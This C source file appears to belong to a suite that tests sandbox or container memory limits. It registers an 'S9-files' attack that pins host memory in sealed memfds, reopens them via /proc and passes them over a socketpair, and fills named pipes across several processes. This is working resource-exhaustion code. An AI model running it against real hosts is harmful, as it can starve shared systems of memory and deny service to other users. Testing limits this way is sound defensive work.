/* SPDX-License-Identifier: MIT */
/* Memory of the host in files that nobody can empty, and in pipes that look like files: S9,
 * continued. */
#include <errno.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "payload.h"

#define PIECE (8 * MIB)

static char block[64 * 1024];

/* In flight, sealed, so that nobody can empty it, as another descriptor of the same file. */
static long take_sealed(long total, int (*again)(int fd))
{
        int pair[2];
        long have = 0;

        if (socketpair(AF_UNIX, SOCK_SEQPACKET, 0, pair) < 0)
                return 0;
        for (; have < total; have += PIECE) {
                int fd = (int)syscall(SYS_memfd_create, "m", 2 /* MFD_ALLOW_SEALING */), other;

                for (long i = 0; fd >= 0 && i < PIECE; i += (long)sizeof(block))
                        if (write(fd, block, sizeof(block)) < 0)
                                return have;
                other = again(fd);
                fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_WRITE);
                close(fd);
                if (other < 0 || send_descriptor(pair[0], other) < 0)
                        break;
                close(other);
        }
        return have;
}

static int open_own(const char *directory, int fd, int flags)
{
        char name[64];

        snprintf(name, sizeof(name), "%s/%d", directory, fd);
        return open(name, flags);
}

/* One that can only be looked at. */
static int again_as_path(int fd)
{
        return open_own("/proc/self/fd", fd, O_PATH);
}

/* ... by another name, with flags that mean nothing then. */
static int again_as_link(int fd)
{
        return open_own("/proc/thread-self/fd", fd, O_PATH | O_RDWR | O_TRUNC);
}

static int again_by_openat2(int fd)
{
        unsigned long how[3] = { O_PATH };
        char name[64];
        int other;

        snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
        other = (int)syscall(SYS_openat2, AT_FDCWD, name, how, sizeof(how));
        return other < 0 && errno == ENOSYS ? again_as_path(fd) : other;
}

static int again_for_reading(int fd)
{
        return open_own("/proc/self/fd", fd, O_RDONLY);
}

static long take_memfd_path(long total)
{
        return take_sealed(total, again_as_path);
}

static long take_memfd_link(long total)
{
        return take_sealed(total, again_as_link);
}

static long take_memfd_openat2(long total)
{
        return take_sealed(total, again_by_openat2);
}

static long take_memfd_sealed(long total)
{
        return take_sealed(total, again_for_reading);
}

/* Pipes with a name, which are open as files are. */
static long take_named_part(long total)
{
        const char *directory = getenv("TMPDIR");
        long have = 0;

        for (int i = 0; have < total; i++) {
                char name[256];
                ssize_t n;
                int fd;

                snprintf(name, sizeof(name), "%s/%d-%d", directory ? directory : "/tmp", getpid(),
                         i);
                fd = mkfifo(name, 0600) < 0 ? -1 : open(name, O_RDWR | O_NONBLOCK);
                n = fd < 0 ? -1 : write(fd, block, sizeof(block));
                if (n <= 0)
                        break;
                have += n;
        }
        return have;
}

static long take_named_pipes(long total)
{
        return in_processes(4, total, take_named_part);
}

static const struct memory_kind kinds[] = {
        { "memfd-path", take_memfd_path },       { "memfd-link", take_memfd_link },
        { "memfd-openat2", take_memfd_openat2 }, { "memfd-sealed", take_memfd_sealed },
        { "named-pipes", take_named_pipes },
};

static int s9_files(int argc, char **argv)
{
        return take_kind(kinds, COUNT(kinds), argc, argv);
}

const struct attack attacks_memory4[] = {
        { "S9-files", s9_files },
        { NULL, NULL },
};
